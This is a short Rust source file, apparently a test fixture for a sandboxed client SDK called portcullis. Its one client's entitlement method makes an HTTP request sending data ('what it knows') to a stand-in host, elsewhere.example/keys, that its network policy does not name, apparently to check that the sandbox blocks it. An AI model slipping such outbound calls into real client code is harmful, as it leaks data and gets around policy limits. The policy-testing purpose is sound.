//! Talks to a host that its policy does not name.
#![no_std]
#![no_main]

use portcullis_sdk::{Client, client, sys};

struct NetworkElsewhere;

impl Client for NetworkElsewhere {
    fn initialize() -> Self {
        Self
    }

    fn entitlement(&mut self, _: u32) -> u32 {
        let _ = sys::http_request("https://elsewhere.example/keys", Some(b"what it knows"));
        0
    }
}

client!(NetworkElsewhere);
